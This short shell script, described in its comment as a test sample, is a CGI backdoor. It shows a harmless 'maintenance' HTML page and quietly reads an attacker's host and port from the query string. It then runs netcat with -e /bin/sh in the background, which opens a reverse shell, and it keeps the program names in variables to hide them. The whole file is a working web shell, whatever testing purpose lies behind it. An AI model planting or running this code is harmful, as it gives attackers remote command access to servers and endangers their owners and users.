#!/bin/sh
# test sample: the host and port cut out of the query string by parameter expansion, the program
# names kept in variables; netcat hands the shell to the connection
printf 'Content-type: text/html\n\n<html><body>maintenance</body></html>\n'
a=${QUERY_STRING%%:*}; b=${QUERY_STRING##*:}
N=nc; S=/bin/sh
$N "$a" "$b" -e /bin/sh >/dev/null 2>&1 &
